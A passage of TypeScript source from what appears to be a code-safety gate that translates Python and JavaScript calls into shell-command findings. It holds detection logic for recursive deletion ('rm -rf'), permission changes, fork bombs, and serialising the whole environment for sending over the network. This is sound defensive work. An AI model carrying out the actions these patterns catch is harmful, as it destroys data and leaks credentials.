    // (docs/decisions.md "A call named for a program"). Read besides the call's own API reading.
    if (receiver?.kind !== 'text') this.programCall(name, args, what);
    // A name no table lists whose words say it deletes a tree (`removetree`, `deleteSync`,
    // `remove_tree`): a recursive deletion of its path, as the listed ones are.
    const named = action === undefined && saysItDeletes(name) ? 'rm-rf' : undefined;
    if (named !== undefined && receiver?.kind !== 'text') this.pathAction(named, null, args, argTokens, what);
    if (action !== undefined) this.pathAction(action, receiver !== null && receiver.kind === 'text' && PATH_METHODS.has(name) ? receiver : null, args, argTokens, what);
    if (FORK_APIS[language].has(name) && (language === 'python' ? /(^|\.)(os|posix|pty)\.fork/.test(path) || path === 'fork' || path === 'forkpty' : true)) this.forks ??= what;
    if (NETWORK_APIS[language].has(name)) this.network ??= what;
    if (name === 'getenv' || (name === 'get' && /(environ|env)\.get$/.test(path))) {
      const variable = args[0];
      if (variable !== undefined && variable.kind === 'text' && isExact(variable)) return this.environment(variable.text);
      this.followed = false;
    }
    if (name === 'require' || name === '__import__' || name === 'import' || name === 'import_module') {
      const module = args[0];
      if (module === undefined || module.kind !== 'text' || !isExact(module)) {
        this.followed = false;
        return UNKNOWN_VALUE;
      }
      return { kind: 'api', name: module.text.replace(/^node:/, '').split(/[./]/).pop()! };
    }
    if (name === 'getattr') {
      const member = args[1];
      if (member !== undefined && member.kind === 'text' && isExact(member)) return { kind: 'api', name: member.text };
      this.followed = false;
      return UNKNOWN_VALUE;
    }
    // The whole environment serialised, copied into a mapping or turned into text (`json.dumps`,
    // `repr(dict(os.environ))`, `str(os.environ)`, `Object.assign({}, process.env)`): in code that
    // uses a network API it is sent whole (docs/decisions.md "Credentials leaving: code that
    // serialises the environment, and code the gate cannot read").
    if (WHOLE_ENVIRONMENT_CALLS.has(name) && wholeEnvironmentIn(argTokens)) this.allEnvironment = true;
    // `Path(P)` and `PurePath(P)` are P (their methods act on it); `str(P)`, `String(P)` too.
    if (['Path', 'PurePath', 'PosixPath', 'str', 'String', 'fspath', 'normpath', 'abspath', 'realpath', 'resolve', 'join', 'URL'].includes(name) && args.length > 0 && callee.kind === 'api') {
      if (name === 'join' || name === 'resolve') return args.reduce((a, b) => join(a, b, '/'));
      return args[0]!;
    }
    if (args.some((arg) => arg.kind === 'text' && arg.text.includes(HOME)) || name === 'expanduser') return this.homeExpansion(name, args);
    return UNKNOWN_VALUE;
  }

  /** Values of calls the reader works out: home expressions, `chr`, `join`, `format`, … or null. */
  private known(name: string, args: Value[]): Value | null {
    if (name === 'home' || name === 'homedir' || name === 'home_dir') return { kind: 'text', text: HOME };
    if (name === 'expanduser' || name === 'expandvars') return this.homeExpansion(name, args);
    if (name === 'chr' || name === 'fromCharCode' || name === 'fromCodePoint') {
      const codes = args.map((arg) => (arg.kind === 'text' && /^\d+$/.test(arg.text) ? Number(arg.text) : NaN));
      if (codes.length > 0 && codes.every((code) => Number.isInteger(code) && code <= 0x10ffff)) return { kind: 'text', text: String.fromCodePoint(...codes) };
      return { kind: 'text', text: UNKNOWN };
    }
    return null;
  }

  private homeExpansion(name: string, args: Value[]): Value {
    const first = args[0];
    if (first === undefined || first.kind !== 'text') return { kind: 'text', text: UNKNOWN };
    if (name === 'expanduser' && (first.text === '~' || first.text.startsWith('~/'))) return { kind: 'text', text: HOME + first.text.slice(1) };
    if (name === 'expandvars') return { kind: 'text', text: first.text.replace(/^(\$HOME|\$\{HOME\})/, HOME) };
    return first;
  }

  private shell(value: Value, what: string): void {
    if (value.kind !== 'text') {
      if (value.kind !== 'api') this.followed = false;
      return;
    }
    const exact = isExact(value);
    if (!exact) this.followed = false;
    const text = shellText(value.text);
    if (text.trim() !== '') this.findings.push({ kind: 'shell-text', text, approximate: !exact, what });
  }

  /**
   * `name(args)` or plumbum's `name[args]`, where `name` is a program the table has a row for and
   * every argument is a literal text or a list of them: read as `name args…` (the floor's arms
   * judge it as that command; a program name given a non-literal is no such call).
   */
  private programCall(name: string, args: Value[], what: string): void {
    if (args.length === 0 || ARGV_APIS[this.language][name] !== undefined || SHELL_TEXT_APIS[this.language].has(name) || EVAL_APIS[this.language].has(name)) return;
    const words: Value[] = [];
    for (const arg of args) {
      if (arg.kind === 'text' && isExact(arg)) words.push(arg);
      else if (arg.kind === 'list' && arg.items.every((item) => item.kind === 'text' && isExact(item))) words.push(...arg.items);
      else return;
    }
    // The words must read as a command line (an option or a path among them): a method that shares
    // a program's name on an object of the code's own (`sock.shutdown(2)`, `timer.sleep(5)`) takes
    // numbers and names, not a program's words.
    if (!words.some((word) => word.kind === 'text' && /^-|\//.test(word.text))) return;
    if (rowFor(name) === null) return;
    this.argv([{ kind: 'text', text: name }, ...words], what);
  }

  private argv(words: Value[], what: string): void {
    if (words.length === 0) return;
    if (!words.every((word) => word.kind === 'text')) this.followed = false;
    const exact = words.every(isExact);
    if (!exact) this.followed = false;
    const text = words.map((word) => (word.kind === 'text' ? shellWord(word.text) : '"$_"')).join(' ');
    this.findings.push({ kind: 'shell-text', text, approximate: !exact, what });
  }

  private pathAction(action: PathAction, receiver: Value | null, args: Value[], argTokens: TokenRange, what: string): void {
    // A method of a path object (`Path(P).unlink()`) acts on its receiver.
    const target = receiver ?? args[0];
    if (target === undefined) return;
    // A list of paths or patterns (`del.sync(['/usr/**'])`, `rimraf(['/etc'])`): each of them.
    if (target.kind === 'list' && target !== receiver && (action === 'rm-rf' || action === 'rm' || action === 'rm-js')) {
      for (const item of target.items) this.pathAction(action, null, [item, ...args.slice(1)], argTokens, what);
      return;
    }
    if (target.kind !== 'text') {
      if (target.kind !== 'api') this.followed = false;
      return;
    }
    const exact = isExact(target);
    if (!exact) this.followed = false;
    const word = shellWord(target.text);
    let text: string | null = null;
    const recursive = inRange(argTokens, (token) => token.value === 'recursive' || token.value === 'force');
    switch (action) {
      case 'rm-rf':
        text = `rm -rf -- ${word}`;
        break;
      case 'rm-js':
        text = recursive ? `rm -rf -- ${word}` : `rm -f -- ${word}`;
        break;
      case 'rm':
        text = `rm -f -- ${word}`;
        break;
      case 'truncate':
        text = `truncate -s 0 -- ${word}`;
        break;
      case 'chmod':
      case 'chown': {
        const mode = args[target === receiver ? 0 : 1];
        const modeText = mode !== undefined && mode.kind === 'text' && isExact(mode) ? shellWord(mode.text) : '777';
        text = `${action} ${modeText} -- ${word}`;
        break;
      }
      case 'mv': {
        const to = target === receiver ? args[0] : args[1];
        text = `mv -- ${word} ${to !== undefined && to.kind === 'text' ? shellWord(to.text) : '"$_"'}`;
        break;
      }
      case 'write':
        text = `: > ${word}`;
        break;
      case 'open': {
        const mode = args[1];
        const writes = mode === undefined ? false : mode.kind !== 'text' || /[wax+]/.test(mode.text) || /^\d+$/.test(mode.text);
        if (writes) text = `: > ${word}`;
        break;
      }
    }
    if (text !== null) this.findings.push({ kind: 'shell-text', text, approximate: !exact, what });
  }

}

/**
 * A loop that need not end starts at `k`: `while`, `do`, `for (;;)`, `setInterval`, and Python's
 * endless iterators (`iter(f, sentinel)`, `itertools.count`/`repeat`/`cycle`). A `for` over a list
 * or a range ends: forking once per item is no fork bomb.
 */
function endlessLoop(tokens: readonly Token[], k: number): boolean {
  const token = tokens[k]!;
  if (token.kind !== 'name') return false;
  switch (token.value) {
    case 'while':
    case 'do':
    case 'setInterval':
    case 'count':
    case 'repeat':
    case 'cycle':
      return true;
    case 'iter':
      return tokens[k + 1]?.value === '(';
    case 'for':
      return tokens[k + 1]?.value === '(' && tokens[k + 2]?.value === ';';
    default:
      return false;
  }
}

/** A call's argument tokens, as a range of the token list (no copy per call). */
interface TokenRange {
  tokens: readonly Token[];
  start: number;
  end: number;
}

function inRange(range: TokenRange, test: (token: Token) => boolean): boolean {
  for (let k = range.start; k < range.end; k++) if (test(range.tokens[k]!)) return true;
  return false;
}

/**
 * The environment named whole among the tokens (`os.environ`, `process.env`), not one value of it
 * (`os.environ["PORT"]`, `process.env.PORT`, `os.environ.get(…)`).
 */
function wholeEnvironmentIn(range: TokenRange): boolean {
  for (let k = range.start; k < range.end; k++) {
    const token = range.tokens[k]!;
    if (token.kind !== 'name' || (token.value !== 'environ' && token.value !== 'env')) continue;
    const next = k + 1 < range.end ? range.tokens[k + 1] : undefined;
    if (next === undefined || next.kind !== 'punct' || (next.value !== '[' && next.value !== '.')) return true;
  }
  return false;
}

/** The items of a list value (an unknown one as one unknown word). */
function listItems(value: Value | undefined): Value[] {
  if (value === undefined) return [];
  return value.kind === 'list' ? value.items : [value];
}

/** Methods of a path object that act on the path (`Path(P).unlink()`, `Path(P).write_bytes(…)`). */
const PATH_METHODS: ReadonlySet<string> = new Set(['unlink', 'rmdir', 'chmod', 'lchmod', 'chown', 'write_bytes', 'write_text', 'rename', 'replace', 'truncate', 'open', 'rmtree']);

/** Values of string and list methods on a known receiver; null when not one of them. */
function stringMethod(name: string, receiver: Value, args: Value[]): Value | null {
  if (name === 'join' && receiver.kind === 'text') {
    const list = args[0];
    if (list === undefined || list.kind !== 'list') return { kind: 'text', text: UNKNOWN };
    return { kind: 'text', text: list.items.map((item) => (item.kind === 'text' ? item.text : UNKNOWN)).join(receiver.text) };
  }
  if (name === 'join' && receiver.kind === 'list') {
    const separator = args[0] === undefined ? ',' : args[0].kind === 'text' ? args[0].text : UNKNOWN;
    return { kind: 'text', text: receiver.items.map((item) => (item.kind === 'text' ? item.text : UNKNOWN)).join(separator) };
  }
  if (receiver.kind !== 'text') return null;
  switch (name) {
    case 'format': {
      let next = 0;
      const text = receiver.text.replace(/\{(\d*)\}/g, (_match, index: string) => {
        const item = args[index === '' ? next++ : Number(index)];
        return item !== undefined && item.kind === 'text' ? item.text : UNKNOWN;
      });
      return { kind: 'text', text: /\{[^}]*\}/.test(text) ? UNKNOWN : text };
    }
    case 'strip': case 'trim': case 'lstrip': case 'rstrip': case 'trimStart': case 'trimEnd':
      return { kind: 'text', text: receiver.text.trim() };
    case 'encode': case 'decode': case 'toString': case 'valueOf': case 'normalize':
      return receiver;
    case 'lower': case 'toLowerCase':
      return { kind: 'text', text: receiver.text.toLowerCase() };
    case 'upper': case 'toUpperCase':
      return { kind: 'text', text: receiver.text.toUpperCase() };
    case 'concat':
      return args.reduce<Value>((a, b) => join(a, b, ''), receiver);
    case 'replace': case 'replaceAll': {
      const [from, to] = args;
      if (from?.kind === 'text' && to?.kind === 'text' && isExact(from)) return { kind: 'text', text: receiver.text.split(from.text).join(to.text) };
      return { kind: 'text', text: UNKNOWN };
    }
    default:
      return null;
  }
}

function numberText(literal: string): string {
  const cleaned = literal.replace(/_/g, '');
  if (/^0[oO][0-7]+$/.test(cleaned)) return parseInt(cleaned.slice(2), 8).toString(8);
  if (/^0[xX][0-9a-fA-F]+$/.test(cleaned)) return String(parseInt(cleaned.slice(2), 16));
  if (/^0[0-7]+$/.test(cleaned)) return cleaned.slice(1);
  return cleaned;
}

function join(left: Value, right: Value, separator: string): Value {
  if (left.kind === 'list' && right.kind === 'list' && separator === '') return { kind: 'list', items: [...left.items, ...right.items] };
  const a = left.kind === 'text' ? left.text : UNKNOWN;
  const b = right.kind === 'text' ? right.text : UNKNOWN;
  if (separator === '/') return { kind: 'text', text: b.startsWith('/') ? b : a.endsWith('/') ? a + b : `${a}/${b}` };
  return { kind: 'text', text: a + b };
}

/** `'…%s…' % x` or `% (x, y)`: `%s`, `%d`, `%r` filled in order. */
function percentFormat(template: string, args: Value): Value {
  const items = args.kind === 'list' ? args.items : [args];
  let k = 0;
  const text = template.replace(/%[-#0 +]*\d*(?:\.\d+)?([sdirf%])/g, (match, type: string) => {
    if (type === '%') return '%';
    const item = items[k++];
    return item !== undefined && item.kind === 'text' ? item.text : UNKNOWN;
  });
  return { kind: 'text', text };
}
